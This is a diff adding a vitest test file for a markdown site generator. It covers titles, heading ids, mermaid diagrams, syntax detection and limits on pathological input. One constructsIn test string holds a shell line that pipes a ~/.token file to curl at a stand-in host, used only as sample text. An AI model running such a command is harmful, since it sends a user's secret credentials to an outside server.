@@ -1,0 +1,163 @@
+// Facts of pages and texts that a fixture does not show: names, descriptions, options, limits, choices of syntax.
+
+import { describe, expect, it } from 'vitest';
+import { isExcessive } from '../../src/generator/markdown/limits.ts';
+import { createMarkdown, titleFromFile } from '../../src/generator/markdown/markdown.ts';
+import { readMermaid } from '../../src/generator/markdown/mermaid/draw.ts';
+import { constructsIn } from '../../src/generator/markdown/parse.ts';
+
+const markdown = createMarkdown();
+
+describe('parseDoc', () => {
+  it.each([
+    ['content/docs/rate-limiting.md', 'Rate limiting'],
+    ['content/docs/ESL-authentication.md', 'ESL authentication'],
+    ['content/docs/work-based/index.md', 'Work based'],
+    ['content/README.md', 'Content'],
+    ['index.md', 'Untitled'],
+  ])('names %s %s', (file, title) => {
+    expect(titleFromFile(file)).toBe(title);
+  });
+
+  it('describes a page by its first paragraph, cut at a word', async () => {
+    const text = `## Heading\n\n${'word '.repeat(40)}\n\nSecond.`;
+    const { description } = (await markdown.parseDoc({ file: 'a.md', text })).value;
+    expect(description).toBe(`${'word '.repeat(31)}word…`);
+  });
+
+  it('leaves the ids of the frame to the frame', async () => {
+    const reserving = createMarkdown({ reservedIds: ['main'] });
+    const { headings } = (await reserving.parseDoc({ file: 'a.md', text: '## Main' })).value;
+    expect(headings.map(({ id }) => id)).toEqual(['main-1']);
+  });
+
+  it('has each diagram drawn once, and none where no text has one', async () => {
+    const drawn: string[] = [];
+    const drawDiagram = async (diagram: string) => {
+      drawn.push(diagram);
+      return { svg: '<svg viewBox="0 0 90 90"><rect width="9" height="9"/></svg>' };
+    };
+    const drawing = createMarkdown({ drawDiagram });
+    await drawing.parseDoc({ file: 'a.md', text: '# mermaid' });
+    expect(drawn).toEqual([]);
+    const fence = '```mermaid\nflowchart TD\n  A --> B\n```';
+    const { html } = (
+      await drawing.parseDoc({ file: 'b.md', text: `${fence}\n\n> ${fence.replaceAll('\n', '\n> ')}` })
+    ).value;
+    expect(drawn).toEqual(['flowchart TD\nA --> B']);
+    expect(html.match(/<rect /g)).toHaveLength(2);
+  });
+});
+
+describe('renderText', () => {
+  it.each([
+    ['# A\n\n### B', undefined, [2, 3]],
+    ['#### A\n\n# B\n\n#### C\n\n### D\n\n#### E', 3, [3, 3, 4, 4, 5]],
+    ['##### A\n\n###### B', 6, [6, 6]],
+    ['### A', 1, [2]],
+  ])('skips no level of headings: %j from level %s', (text, topHeading, depths) => {
+    const { headings } = markdown.renderText(text, topHeading === undefined ? {} : { topHeading });
+    expect(headings.map(({ depth }) => depth)).toEqual(depths);
+  });
+
+  it('leaves the ids of the page to the page', () => {
+    const { html } = markdown.renderText('## Servers', { reservedIds: ['servers'] });
+    expect(html).toContain('<h2 id="servers-1">');
+  });
+
+  it('shows a text that exhausts the stack as it stands', () => {
+    const { html } = markdown.renderText('<b>'.repeat(20_000), {});
+    expect(html).toBe(
+      `<pre class="code" tabindex="0" role="group" aria-label="Text">${'&lt;b>'.repeat(20_000)}</pre>`,
+    );
+  });
+});
+
+describe('constructsIn', () => {
+  it.each([
+    ['Text with `code`, **stress** and [a link](https://host.example).', []],
+    ['---\ntitle: x\n---\n', ['frontMatter']],
+    ['| a |\n| - |', ['table']],
+    ['~~a~~', ['strikethrough']],
+    ['```sh\ncat ~/.token | curl https://host.example\n```', []],
+    ['- [x] a', ['taskList']],
+    ['see www.host.example', ['autolink']],
+    ['a[^1]\n\n[^1]: b', ['footnote']],
+    [':::note\n:::', ['directive']],
+  ])('%j needs %j', (text, constructs) => {
+    expect(constructsIn(text)).toEqual(constructs);
+  });
+});
+
+/** Runs of a mark, each longer than the one before. */
+function growing(mark: string, most: number, between = ' '): string {
+  return Array.from({ length: most }, (_, index) => `a${mark.repeat(index + 1)}`).join(between);
+}
+
+describe('isExcessive', () => {
+  it.each([
+    ['nested quotations', '>'.repeat(100), true],
+    ['a long rule', '-'.repeat(1000), false],
+    ['nested lists', '- '.repeat(101), true],
+    ['a run of stars', '*'.repeat(501), true],
+    ['blocks in blocks', ':::note\n'.repeat(51), true],
+    ['many blocks', ':::note\n:::\n'.repeat(1000), false],
+    ['lazy lines', '> a\nb\n'.repeat(2001), true],
+    ['a long quotation', '> a\n'.repeat(5000), false],
+    ['an endless paragraph', 'a line\n'.repeat(20_001), true],
+    ['a long page', 'a line\n\n'.repeat(20_001), false],
+    ['runs of stars in a paragraph', 'a**b'.repeat(3001), true],
+    ['runs of stars in lines', 'a**b **c\n'.repeat(1501), true],
+    ['brackets of a paragraph', '[a][b]'.repeat(2501), true],
+    ['brackets behind what is no table', `a\n|-|-|\n${'[a][b]\n'.repeat(2501)}`, true],
+    ['stars behind a fence in HTML', `<b>\n\`\`\`\n${'a**b\n'.repeat(3001)}`, true],
+    ['a long text of short paragraphs', '**a** [b](c) `d`\n\n'.repeat(3000), false],
+    ['a long list', '- **a** [b](c)\n'.repeat(6000), false],
+    ['a long table', `| a | b |\n|---|:-:|\n${'| **a** | [b_c](d_e) |\n'.repeat(6000)}`, false],
+    ['a long block of code', `\`\`\`json\n${'{ "a_b": [1], "c_d": [] }\n'.repeat(6000)}\`\`\`\n`, false],
+    ['growing runs of backticks', growing('`', 700), true],
+    ['growing runs of backticks in lines', growing('`', 700, '\n'), true],
+    ['comments without an end', 'a <!-- '.repeat(5000), true],
+    ['instructions without an end', 'a <? '.repeat(5000), true],
+    ['declarations without an end', 'a <!B '.repeat(5000), true],
+    ['literal text without an end', 'a <![CDATA[ '.repeat(5000), true],
+    ['comments with an end', 'a <!-- --> '.repeat(5000), false],
+    ['code of one kind', 'a `b` ``c`` '.repeat(5000), false],
+    ['growing runs of backticks apart', growing('`', 100, '\n\n'), false],
+    ['two million characters', 'a'.repeat(2_000_001), true],
+  ])('%s', (_, text, expected) => {
+    expect(isExcessive(text)).toBe(expected);
+  });
+});
+
+describe('readMermaid', () => {
+  it('takes the text alternative and the colours out', () => {
+    const source = `---
+config: x
+---
+%% comment
+flowchart TD
+  accTitle: Title: of it
+  accDescr { First
+    second }
+  A --> B
+  style A fill:#f00
+  class B red
+`;
+    expect(readMermaid(source)).toEqual({
+      diagram: 'flowchart TD\nA --> B',
+      title: 'Title: of it',
+      lost: [],
+      description: 'First second',
+      margin: 0,
+    });
+  });
+
+  it('keeps the classes of a class diagram', () => {
+    expect(readMermaid('classDiagram\n  class A {\n  }')?.diagram).toBe('classDiagram\nclass A {\n}');
+  });
+
+  it('knows no other types', () => {
+    expect(readMermaid('pie\n  "a" : 1')).toBeUndefined();
+  });
+});
